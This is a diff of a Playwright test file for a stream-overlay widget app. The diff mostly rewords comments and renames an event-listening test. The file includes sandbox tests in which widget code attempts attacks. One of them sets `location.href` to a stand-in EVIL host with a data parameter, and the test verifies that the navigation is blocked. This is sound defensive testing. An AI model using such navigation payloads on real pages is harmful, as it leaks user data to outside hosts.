@@ -65,7 +65,7 @@ async function showAlerts(setup: Setup) {
   await expect(alert(page)).toHaveCount(1);
 }
 
-/** Records what the page says, without a voice. */
+/** Records the texts that the page would speak. */
 async function recordSpeech(page: Page) {
   await page.addInitScript(() => {
     const spoken: Json[] = [];
@@ -118,7 +118,7 @@ async function playMedia(setup: Setup) {
   expect(await spoken(page)).toEqual([]);
 }
 
-/** Tries everything and writes down what happened. */
+/** Own code that tries every attack and shows the results. */
 const ATTACKS = `
   const log = (name, result) => { const p = document.createElement("p"); p.textContent = name + ": " + result; document.body.append(p); };
   const attempt = (name, work) => { try { log(name, work() ?? "done"); } catch (error) { log(name, "blocked"); } };
@@ -157,7 +157,7 @@ async function refuseAttacks(setup: Setup, context: BrowserContext) {
   await expect(frame.getByText("field: hi there")).toBeVisible();
   await juno.post(`/channels/${channelId}/widgets/${widget.id}/test`, { name: "raid" });
   await expect(frame.getByText("activity: Hanna Lindqvist raid")).toBeVisible();
-  // Led to another page, the frame would carry data out.
+  // A frame that navigates to another page could send data there.
   const leave = `location.href = "${EVIL}/leave?data=1";`;
   await juno.put(`/channels/${channelId}/widgets/${widget.id}`, {
     name: widget.name,
@@ -173,7 +173,7 @@ async function refuseAttacks(setup: Setup, context: BrowserContext) {
   expect(context.pages()).toHaveLength(1);
 }
 
-/** Writes down each event that own code can hear. */
+/** Own code that shows each event that it receives. */
 const EVENTS = `
   const names = {};
   const log = (text) => { const p = document.createElement("p"); p.textContent = text; document.body.append(p); };
@@ -183,20 +183,20 @@ const EVENTS = `
   greenroom.on("swept", ({ author_id }) => log("swept: " + names[author_id]));
 `;
 
-async function hearEvents(setup: Setup) {
+async function receiveEvents(setup: Setup) {
   const { page, control } = setup;
   const fields = [{ key: "greeting", label: "Greeting", value: "hi " }];
   const settings = { html: "<b>there</b>", script: EVENTS, fields, events: ["chat"] };
   await openWidget(setup, await createWidget(setup, "custom_html", settings, { name: "Listener" }));
-  const heard = (text: string) => page.frameLocator("iframe.custom").getByText(text, { exact: true });
-  await expect(heard("load: hi there")).toBeVisible();
+  const shown = (text: string) => page.frameLocator("iframe.custom").getByText(text, { exact: true });
+  await expect(shown("load: hi there")).toBeVisible();
   const { message_id } = await say(control, "twitch", "first", { viewer: "odalys_" });
-  await expect(heard(`${message_id}: first`)).toBeVisible();
+  await expect(shown(`${message_id}: first`)).toBeVisible();
   await control.post("/twitch/delete", { login: "junoplays", message_id });
-  await expect(heard(`removed: ${message_id}`)).toBeVisible();
+  await expect(shown(`removed: ${message_id}`)).toBeVisible();
   await control.post("/twitch/ban", { login: "junoplays", viewer: "odalys_", seconds: 60 });
-  await expect(heard("swept: odalys_")).toBeVisible();
-  await expect(heard("load: hi there")).toHaveCount(1);
+  await expect(shown("swept: odalys_")).toBeVisible();
+  await expect(shown("load: hi there")).toHaveCount(1);
 }
 
 async function listEvents(setup: Setup) {
@@ -205,11 +205,11 @@ async function listEvents(setup: Setup) {
   await page.setViewportSize({ width: 400, height: 480 });
   await openWidget(setup, widget);
   const name = page.locator(".event-name").first();
-  // What happened before: the page is connected.
+  // An earlier event is shown: the page is connected.
   await expect(name).toBeVisible();
   await juno.post(`/channels/${channelId}/widgets/${widget.id}/test`, { name: "raid" });
   await expect(name).toHaveText("Hanna Lindqvist");
-  // One line of 60 pixels, cut off at its end.
+  // The name is one line of 60 pixels, cut off at its end.
   expect((await name.boundingBox())?.height).toBeLessThan(100);
   expect(await name.evaluate(({ scrollWidth, clientWidth }) => scrollWidth > clientWidth)).toBe(true);
 }
@@ -224,6 +224,6 @@ test("a widget's page is shown, and hostile text and code do nothing", async ({ 
   await test.step("alerts follow each other, also across a reload [P7]", () => showAlerts(setup));
   await test.step("alerts have a picture or a video, a sound and a voice, once [P7]", () => playMedia(setup));
   await test.step("own code reaches nothing [P7]", () => refuseAttacks(setup, context));
-  await test.step("own code hears chat, what is removed, and that it is loaded [P7]", () => hearEvents(setup));
+  await test.step("own code hears chat, what is removed, and that it is loaded [P7]", () => receiveEvents(setup));
   await test.step("a long name in a narrow list is cut off at its end [P7]", () => listEvents(setup));
 });
